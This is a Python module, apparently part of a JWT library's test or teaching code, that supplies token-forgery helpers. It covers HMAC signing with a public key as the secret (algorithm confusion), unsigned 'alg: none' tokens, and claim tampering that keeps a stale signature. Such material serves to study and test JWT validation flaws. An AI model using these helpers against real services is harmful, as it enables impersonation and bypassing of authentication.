"""The attacker's tools: tokens forged with nothing but the standard library."""

from __future__ import annotations

import hmac
import json
from collections.abc import Mapping
from typing import Any

from jwtflow.insecure.parts import encode, parts


def forge(header: Mapping[str, Any], claims: Mapping[str, Any], *, secret: bytes) -> str:
    """Sign a token with HMAC-SHA256, using any bytes as the secret, even a public key.

    Args:
        header: used as it is; nothing is added or checked.
        claims: the payload.
        secret: what the victim will use as its secret; may be empty.
    """
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    return f"{signing_input}.{encode(hmac.digest(secret, signing_input.encode(), 'sha256'))}"


def unsigned(claims: Mapping[str, Any], *, alg: str = "none", typ: str = "at+jwt") -> str:
    """Build an unsigned token, whose third part is empty (RFC 7519 §6)."""
    return f"{_segment({'alg': alg, 'typ': typ})}.{_segment(claims)}."


def replace_claims(encoded_jwt: str, **changes: Any) -> str:
    """Change a token's claims but keep its signature, which then no longer matches."""
    header, claims, _, _ = parts(encoded_jwt)
    signature = encoded_jwt.rpartition(".")[2]
    return f"{_segment(header)}.{_segment({**claims, **changes})}.{signature}"


def _segment(members: Mapping[str, Any]) -> str:
    return encode(json.dumps(dict(members), separators=(",", ":")).encode())
